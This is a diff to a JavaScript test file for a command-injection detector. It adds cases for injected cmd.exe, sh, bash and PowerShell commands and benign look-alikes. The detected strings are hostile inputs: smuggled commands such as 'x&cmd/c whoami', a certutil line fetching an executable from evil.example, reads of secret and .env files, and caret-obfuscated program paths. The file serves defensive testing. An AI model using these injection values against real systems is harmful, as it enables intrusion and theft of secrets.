@@ -1666,8 +1666,9 @@ describe('cmdi session 20 (rtc23): ${x:-w} ${x=w} ${x+w} expand to their word; $
 describe("cmdi session 20 (rtc23): cmd.exe reads a switch glued to the command word after & | newline (whoami/all, cmd/c)", () => {
   it.each(['x&cmd/c whoami', 'x&whoami/all', 'x&ipconfig/all', 'x|whoami/all', 'x&&cmd/c whoami', 'x&dir/s/b c:\\',
     'x&certutil/urlcache/f http://evil.example/x x.exe', 'x&powershell/c whoami', 'x&cmd/c"whoami"'])('%s is a command', expectCmdi);
-  // a path goes on after the segment (bin/x.sh, cat/dogfood.png); a ';' is no cmd.exe separator; a word of digits is no switch
-  it.each(['x&bin/x.sh', 'R&D/IT', 'Tom & Jerry/Cartoons', 'x;whoami/all', 'x&cat/dogfood.png', 'x&dir/2024', 'Q&A/help-center'])('%s stays clean', expectNoCmdi);
+  // a path goes on after the segment (bin/x.txt, cat/dogfood.png); a ';' is no cmd.exe separator; a word of digits is no switch
+  // (x&bin/x.sh was here until session 22: sh runs that script from the working folder, see the cf26 block below)
+  it.each(['x&bin/x.txt', 'R&D/IT', 'Tom & Jerry/Cartoons', 'x;whoami/all', 'x&cat/dogfood.png', 'x&dir/2024', 'Q&A/help-center'])('%s stays clean', expectNoCmdi);
 });
 
 describe('cmdi session 20 (rtc23): a Windows absolute or UNC path after & | newline runs the program it names', () => {
@@ -1798,6 +1799,55 @@ describe('cmdi session 24 (rtd24): a bare program name opening a line', () => {
 describe('cmdi session 21 (rtd24): a relative path with a slash after | or a newline', () => {
   it.each(['x|uploads/run.sh', 'x\nuploads/a.sh', 'x|uploads/a.exe', 'x|tools/b/c.bat -q'])('%s is a command', expectCmdi);
   it.each(['x|docs/readme.md', 'x|a/b', 'Hi\nsee docs/setup.sh', 'and/or | yes/no', 'x|docs/a.txt'])('%s stays clean', expectNoCmdi);
+});
+
+// session 22 (cf26): the same relative path after '&' or '&&' (sh runs x&uploads/run.sh's second command from the working
+// folder as it does after ';'), and a one-letter first folder (x;b/c.sh); a document, a folder or a domain stays clean
+describe('cmdi session 22 (cf26): a relative path with a slash after & && or a one-letter folder', () => {
+  it.each(['x&&uploads/run.sh', 'x&uploads/run.sh', 'x && uploads/run.sh', 'x&uploads/a.ps1', 'a&&b/c.sh', 'x;b/c.sh',
+    'x&b/c.exe', 'x&bin/x.sh'])('%s is a command', expectCmdi);
+  it.each(['R&D/notes.txt', 'Q&A/faq.md', 'H&M.com/shop', 'R&D/docs', 'x&a/b', 'A&B/C.txt', 'a;b/c.txt', 'x;c:\\windows\\a.exe',
+    'see docs/readme.md', 'x;a/b'])('%s stays clean', expectNoCmdi);
+});
+
+// session 22 (cf26, rtd24 repro 14): cmd.exe hands a relative path with another runnable extension to its program (.scr
+// .pif are programs, .vbs .vbe .js .jse .wsf Windows Script Host's, .hta mshta's, .msi msiexec's, .ps1 PowerShell's); a
+// path standing apart between a table's '|' cells is a Markdown cell (| setup.exe | 1.2 MB |), glued or given more it runs
+describe('cmdi session 22 (cf26): runnable extensions after & | newline, and a Markdown table cell', () => {
+  it.each(['x&a.vbs', 'x&a.scr', 'x&a.hta', 'x&a.js', 'x&a.wsf', 'x&a.ps1', 'x|a.ps1', 'x|a.scr', 'x&a.pif', 'x&a.msi',
+    'x&uploads\\a.jse', 'x\nuploads\\a.vbs', 'x | a.exe', 'x | a.exe x', 'x|a.exe |', 'x | uploads\\a.exe /S', 'x | a.vbs '])('%s is a command', expectCmdi);
+  it.each(['| setup.exe | 1.2 MB |', '| index.js | entry point |', '| asynckit.min.js.gz |  1.47 kB |', '| a.js |', 'x&a.json',
+    'x|a.jsx', 'Hi\nsetup.msi fails', 'x&Readme.txt', 'File | Open'])('%s stays clean', expectNoCmdi);
+});
+
+// session 22 (cf26, rtd24 repro 14): cmd.exe drops a caret in the program's path and the quotes glued to its separator
+// around it (x&^a.exe, x&a^.exe, x&"uploads\a.exe"), and expands a variable opening it (x&%PUBLIC%\a.exe); sh keeps a
+// caret after ';', a quoted word or a variable with no program's path after it stays clean
+describe('cmdi session 22 (cf26): cmd.exe program paths with a caret, in quotes, or opening with a variable', () => {
+  it.each(['x&"uploads\\a.exe"', 'x&"a.bat"', 'x|"a.exe"', 'x&^a.exe', 'x&a^.exe', 'x&uploads^\\a.exe', 'x&"c:\\a.exe"', 'x|^"a.vbs"',
+    'x&%FOO%\\a.exe', 'x|%HOMEPATH%\\uploads\\a.bat', 'x & %PUBLIC%\\a.exe /S', 'x\n%PUBLIC%\\a.exe'])('%s is a command', expectCmdi);
+  // (a caret inside the extension: the pieces are judged joined)
+  it.each(['x&a.e^xe', 'x&a.^exe', 'x&a.ex^e', 'x&a.e^x^e', 'x&a.v^bs', 'x|uploads\\a.b^at', 'x&a.j^s', 'x&"a.e^xe"'])('%s is a command', expectCmdi);
+  it.each(['x&a.exe^x', 'x&a.c^om', 'x&a.t^xt', 'Barnes&Noble.c^om'])('%s stays clean', expectNoCmdi);
+  it.each(['"a"|"b"|"c"', '"a"&"b.txt"', 'AT&"T"', 'x;b^/c.sh', 'R&"D"', 'x;%FOO%\\a.exe', '50%&%off%\\notes.txt', 'Save 50% & %off% today',
+    'x&%FOO%', 'Tom & "Jerry"'])('%s stays clean', expectNoCmdi);
+});
+
+// session 22 (cf26): bash forms that spelled the same file or command in pieces: a glob naming the file $(< or `< reads,
+// trap's operand with a backslash or empty quotes in it, and the dot builtin on a new line sourcing a script whose name
+// is also a command's (cmd.sh); make's $(<D), a tagged template's markup, trap before a word that names no signal stay clean
+describe('cmdi session 22 (cf26): a glob after $(<, trap i\\d EXIT, x\\n. cmd.sh', () => {
+  it.each(['x$(<[s]ecret.txt)', 'x$(<*.env)', 'x$( <[s]ecret.txt)', 'x$(< ?ecret)', 'x`<[s]ecret.txt`', 'x`<*.env`',
+    'trap i\\d EXIT', 'x;trap i\\d EXIT', "x;trap i''d 0", 'x;trap c\\a\\t EXIT', 'x;trap \\i\\d EXIT',
+    'x\n. cmd.sh', 'x\n. cmd.ps1', 'x\n. ls.bash'])('%s is a command', expectCmdi);
+  it.each(['$(<D)', '$(<)', 'html`<div>`', '`<*>`', 'trap i\\d cards', 'trap i\\d', 'Hello\n. cat.txt', 'x cmd.sh', 'x\ncmd.sh'])('%s stays clean', expectNoCmdi);
+});
+
+// session 22 (cf26): PowerShell's gc (Get-Content) after a separator, judged as a weak command word (a drive, a dotted file
+// name or an option after it); "gc" in prose about garbage collection stays clean
+describe('cmdi session 22 (cf26): PowerShell gc reading a file after a separator', () => {
+  it.each([';gc C:\\x', 'x;gc secret.txt', 'x|gc C:\\x', 'x;gc -Path C:\\a.txt'])('%s is a command', expectCmdi);
+  it.each(['Java; gc logs', 'Use G1 GC; it helps', 'GC; SAL a thing', 'Full GC | 1.2 s |', 'gc pauses; heap'])('%s stays clean', expectNoCmdi);
 });
 
 describe('cmdi session 21 (rtc23): shell syntax only a command line has: a here-string, an array element as the command', () => {
